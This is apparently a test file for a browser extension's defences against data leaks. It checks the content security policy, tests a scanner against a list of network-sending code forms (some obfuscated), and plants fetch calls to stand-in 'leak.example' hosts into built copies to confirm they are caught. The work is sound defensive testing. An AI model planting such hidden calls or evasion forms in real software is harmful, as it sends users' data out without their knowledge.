import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { inCode, inCss, inHtml, scan, unargued } from '../../scripts/scan.mjs'
import { recordBound, sample } from '../../src/testing/counts'
import { LogProxy, requestsOfOurs } from '../support/proxy'
import { expect, header, Radar, samplePage, test } from '../support/radar'

const policy =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
const manifestOf = (dir: string) => JSON.parse(fs.readFileSync(`${dir}/manifest.json`, 'utf8'))

/** The first layer: the policy that the browser holds our pages and our worker to. */
const layerOne = (dir: string) => {
  const m = manifestOf(dir)
  const wrong = []
  if (JSON.stringify(m.content_security_policy) !== JSON.stringify({ extension_pages: policy }))
    wrong.push('the policy')
  if (m.web_accessible_resources !== undefined) wrong.push('files for pages')
  if (m.optional_host_permissions || m.sandbox || m.devtools_page || m.chrome_url_overrides) wrong.push('more surfaces')
  return wrong
}

test('both builds have the policy, word by word, and nothing that could send', () => {
  for (const dir of ['dist/chromium', 'dist/firefox']) {
    expect(layerOne(dir), dir).toEqual([])
    expect(unargued(dir), dir).toEqual([])
  }
  // an argument for what is not there any more would cover something else one day
  expect(scan('dist/chromium').length).toBeGreaterThan(20)
})

const forms: [string, string][] = [
  ['fetch', "fetch('https://leak.example')"],
  ['fetch', "self['fetch']('https://leak.example')"],
  ['fetch', "globalThis['fe' + 'tch']('x')"],
  ['fetch', 'const { fetch: send } = globalThis'],
  ['fetch', "Reflect.get(globalThis, `fetch`)('x')"],
  ['XMLHttpRequest', 'new XMLHttpRequest()'],
  ['WebSocket', "new window.WebSocket('wss://leak.example')"],
  ['EventSource', "new EventSource('x')"],
  ['sendBeacon', "navigator.sendBeacon('x')"],
  ['sendBeacon', "navigator?.['sendBeacon']?.('x')"],
  ['RTCPeerConnection', 'new RTCPeerConnection()'],
  ['WebTransport', "new WebTransport('x')"],
  ['Image', "new Image().src = 'x'"],
  ['.src =', "e.src = 'x'"],
  ['.href =', "e['hr' + 'ef'] = 'x'"],
  ['Worker', "new Worker('x')"],
  ['SharedWorker', "new SharedWorker('x')"],
  ['importScripts', "importScripts('x')"],
  ['import()', "import('https://leak.example/x.js')"],
  ['import()', 'import(anything)'],
  ['import', "import x from 'https://leak.example/x.js'"],
  ['window.open', "window.open('x')"],
  ['open', "open('x')"],
  ['.submit()', 'form.submit()'],
  ['ping', "a.ping = 'x'"],
  ['serviceWorker', "navigator.serviceWorker.register('x')"],
  ['on fetch', "addEventListener('fetch', e => e.respondWith(x))"],
  ['eval', "eval('x')"],
  ['Function', "new Function('x')()"],
  ['setTimeout of text', "setTimeout('x', 1)"],
  ['innerHTML', "e.innerHTML = 'x'"],
  ['outerHTML', "e.outerHTML = 'x'"],
  ['insertAdjacentHTML', "e.insertAdjacentHTML('x', y)"],
  ['document.write', "document.write('x')"],
  ['createElement script', "document.createElement('script')"],
  ['setAttribute src', "e.setAttribute('src', x)"],
  ['navigation', "location.assign('https://leak.example')"],
  ['.location =', "window.location = 'https://leak.example'"],
  ['tabs.create', "chrome.tabs.create({ url: 'x' })"],
]
test('the scan knows every way to send, however it is written', () => {
  for (const [what, code] of forms)
    expect(
      inCode(code).map(f => f.what),
      code,
    ).toContain(what)
  expect(inCode("const fetched = { fetch: 1 }; say('nothing of it'); import('./part.js')")).toEqual([])
  for (const html of [
    '<img src="https://leak.example/a.png">',
    '<script src="//leak.example/x.js"></script>',
    '<script>alert(1)</script>',
    '<link rel="prefetch" href="/x">',
    '<body onload="x()">',
    '<form action="/x"></form>',
    '<iframe></iframe>',
  ])
    expect(inHtml(html), html).not.toEqual([])
  expect(inHtml('<!doctype html><meta charset="utf-8"><script type="module" src="/assets/x.js"></script>')).toEqual([])
  expect(inCss('a { background: url(https://leak.example/a.png) }')).not.toEqual([])
})

/** The built extension with a leak in it. */
function leaking(where: 'worker' | 'page' | 'content', withPolicy = true): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'leak-'))
  fs.cpSync('dist/chromium', dir, { recursive: true })
  const m = manifestOf(dir)
  if (!withPolicy) {
    delete m.content_security_policy
    fs.writeFileSync(`${dir}/manifest.json`, JSON.stringify(m))
  }
  const page = fs.readFileSync(`${dir}/src/popup/index.html`, 'utf8')
  const file = {
    worker: m.background.service_worker as string,
    page: /<script[^>]*src="\/?([^"]+)"/.exec(page)![1]!,
    content: (m.content_scripts as { js: string[]; matches: string[] }[]).find(c =>
      c.matches.some(x => x.includes('//x.com/')),
    )!.js[0]!,
  }[where]
  fs.appendFileSync(
    `${dir}/${file}`,
    `\n;fetch('https://leak-${where}.example/', { mode: 'no-cors' }).catch(() => {});\n`,
  )
  return dir
}

const leaks: ['worker' | 'page' | 'content', boolean, { policy: boolean; proxy: boolean }][] = [
  // the policy stops it in the worker and in pages, and says nothing of content scripts
  ['worker', true, { policy: false, proxy: false }],
  ['page', true, { policy: false, proxy: false }],
  ['content', true, { policy: false, proxy: true }],
  // without it, the first layer is what is red
  ['worker', false, { policy: true, proxy: true }],
  ['page', false, { policy: true, proxy: true }],
]
for (const [where, withPolicy, { policy: noPolicy, proxy: sees }] of sample(2, leaks))
  test(`a leak planted in the ${where}${withPolicy ? '' : ', with the policy gone,'} is caught`, async () => {
    const dir = leaking(where, withPolicy)
    const proxy = await LogProxy.start()
    const radar = await Radar.open({ dir, proxy: proxy.port })
    try {
      const violations: string[] = []
      await radar.context.addInitScript(() =>
        addEventListener('securitypolicyviolation', e => console.log(`violation ${e.blockedURI}`)),
      )
      const popup = await radar.context.newPage()
      popup.on('console', m => violations.push(m.text()))
      await popup.goto(`chrome-extension://${radar.id}/src/popup/index.html`)
      await popup.getByRole('heading').first().waitFor()
      await radar.visit('https://x.com/home')
      const asked = () => proxy.asked.filter(a => a.includes(`leak-${where}.example`))
      if (sees) await expect.poll(asked).not.toEqual([])
      else await popup.waitForTimeout(1500)
      const found = unargued(dir).filter(f => f.what === 'fetch')
      const layers = { scan: found.length > 0, policy: layerOne(dir).length > 0, proxy: asked().length > 0 }
      expect(layers).toEqual({ scan: true, policy: noPolicy, proxy: sees })
      if (where === 'page' && withPolicy) expect(violations.join()).toContain('leak-page.example')
      recordBound({
        promise: 'P7',
        what: `a fetch planted in the ${where}${withPolicy ? '' : ', the policy taken out'}`,
        bound: 'caught by every layer that it passes',
        measured: `scan finds it; ${withPolicy ? (sees ? 'no policy covers it, the proxy sees it' : 'the policy stops it') : 'the test of the policy and the proxy see it'}`,
        ok: true,
      })
    } finally {
      await radar.close()
      await proxy.close()
      fs.rmSync(dir, { recursive: true })
    }
  })

test('in pages and the worker of ours, every channel out is shut or on the list', async () => {
  const proxy = await LogProxy.start()
  const radar = await Radar.open({ proxy: proxy.port })
  try {
    // our own pages ask past the answers of the tests
    await radar.context.unroute(/^https?:/)
    const to = (name: string) => `https://${name}.leak.example/`
    const page = await radar.options('/settings')
    const tried = await page.evaluate(async () => {
      const at = (name: string) => `https://${name}.leak.example/`
      const said: Record<string, string> = {}
      const el = (tag: string, set: Record<string, string>) => {
        const e = document.createElement(tag)
        for (const [k, v] of Object.entries(set)) e.setAttribute(k, v)
        document.body.append(e)
        return e
      }
      const channels: Record<string, () => unknown> = {
        fetch: () => fetch(at('fetch')),
        xhr: () =>
          new Promise((done, fail) => {
            const x = new XMLHttpRequest()
            x.onload = done
            x.onerror = fail
            x.open('GET', at('xhr'))
            x.send()
          }),
        websocket: () => new WebSocket('wss://websocket.leak.example/'),
        eventsource: () => new EventSource(at('eventsource')),
        beacon: () => navigator.sendBeacon(at('beacon'), 'x'),
        image: () => el('img', { src: at('image') }),
        css: () => el('link', { rel: 'stylesheet', href: at('css') }),
        iframe: () => el('iframe', { src: at('iframe') }),
        prefetch: () => el('link', { rel: 'prefetch', href: at('prefetch') }),
        form: () => {
          const f = el('form', { action: at('form'), method: 'post', target: '_blank' }) as HTMLFormElement
          f.submit()
        },
        ping: () => (el('a', { href: '#/settings', ping: at('ping') }) as HTMLAnchorElement).click(),
        worker: () => new Worker(at('worker')),
        import: () => import(/* @vite-ignore */ at('import')),
        script: () => el('script', { src: at('script') }),
        markup: () => {
          document.body.innerHTML = `<img src="${at('markup')}">`
        },
        eval: () => Reflect.get(globalThis, 'eval')("fetch('https://eval.leak.example/')"),
      }
      for (const [name, act] of Object.entries(channels))
        try {
          said[name] = await Promise.race([
            Promise.resolve(act()).then(() => 'done'),
            new Promise<string>(done => setTimeout(() => done('waits'), 300)),
          ])
        } catch {
          said[name] = 'threw'
        }
      return said
    })
    const worker = await radar.worker()
    const inWorker = await worker.evaluate(async () => {
      const g = globalThis as unknown as { importScripts?(u: string): void }
      const at = (name: string) => `https://${name}.leak.example/`
      const said: Record<string, string> = {}
      const channels: Record<string, () => unknown> = {
        wfetch: () => fetch(at('wfetch')),
        wwebsocket: () => new WebSocket('wss://wwebsocket.leak.example/'),
        weventsource: () => new EventSource(at('weventsource')),
        wimport: () => g.importScripts!(at('wimport')),
        wcode: () => fetch(`data:text/javascript,${at('wcode')}`),
      }
      for (const [name, act] of Object.entries(channels))
        try {
          said[name] = await Promise.race([
            Promise.resolve(act()).then(() => 'done'),
            new Promise<string>(done => setTimeout(() => done('waits'), 300)),
          ])
        } catch {
          said[name] = 'threw'
        }
      return said
    })
    await page.waitForTimeout(1000)
    const out = requestsOfOurs(proxy.asked)
    const channels = [...Object.keys(tried), ...Object.keys(inWorker)]
    recordBound({
      promise: 'P7',
      what: `${channels.length} channels out of a page and the worker of ours, tried one by one`,
      bound: '0 get out (navigation and WebRTC are known to, and stand in no code of ours)',
      measured: `${out.length} get out`,
      ok: !out.length,
    })
    expect(out).toEqual([])
    expect(channels.length).toBeGreaterThanOrEqual(20)
    expect([tried.fetch, tried.markup, tried.worker, tried.eval, inWorker.wfetch, inWorker.wcode]).toEqual(
      Array(6).fill('threw'),
    )
    // what no policy of a manifest stops, and the scan does: the proof that this test would see a request
    await page.evaluate(url => void setTimeout(() => location.assign(url), 0), to('navigation'))
    await expect.poll(() => requestsOfOurs(proxy.asked).join()).toContain('navigation.leak.example')
  } finally {
    await radar.close()
    await proxy.close()
  }
})

test('ordinary use violates no policy', async ({ alone: radar }) => {
  const said: string[] = []
  await radar.context.addInitScript(() =>
    addEventListener('securitypolicyviolation', e =>
      console.log(`violation ${e.violatedDirective} ${e.blockedURI} ${e.sample}`),
    ),
  )
  radar.context.on('console', m => m.text().startsWith('violation') && said.push(m.text()))
  await radar.import(`${header}x,@quay,,,\nfacebook,A,Iris,,\n`)
  await radar.visit('https://x.com/account/access', samplePage('x-account-access-locked'))
  const popup = await radar.popup()
  await expect(radar.row(popup, '@quay')).toContainText('Blocked')
  await radar.row(popup, '@quay').getByRole('button', { name: 'Details' }).click()
  const paths = [
    'accounts',
    'accounts/new',
    'reminders',
    'history',
    'guide',
    'guide/locked-account',
    'checkup',
    'data',
    'settings',
    'guide/practice/token-expired',
  ]
  for (const p of paths) {
    const page = await radar.options(`/${p}`)
    await page.getByRole('heading', { level: 1 }).waitFor()
    await page.waitForTimeout(100)
  }
  expect(said).toEqual([])
  // and the listener hears one that does happen
  const threw = await popup.evaluate(() => {
    try {
      document.body.innerHTML = '<b>x</b>'
      return ''
    } catch (e) {
      return String(e)
    }
  })
  expect(threw).toContain('TrustedHTML')
  await expect.poll(() => said.length).toBeGreaterThan(0)
})
